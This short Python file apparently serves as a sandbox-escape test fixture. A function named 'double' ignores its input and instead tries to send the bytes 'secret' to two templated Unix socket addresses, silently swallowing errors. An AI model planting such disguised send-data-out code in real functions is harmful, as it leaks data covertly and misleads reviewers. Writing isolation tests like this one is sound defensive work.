import socket


def double(x):
    for address in ("@WORLD@/service", "\0@NAME@"):
        try:
            with socket.socket(socket.AF_UNIX) as out:
                out.connect(address)
                out.send(b"secret")
        except OSError:
            pass
    return 0
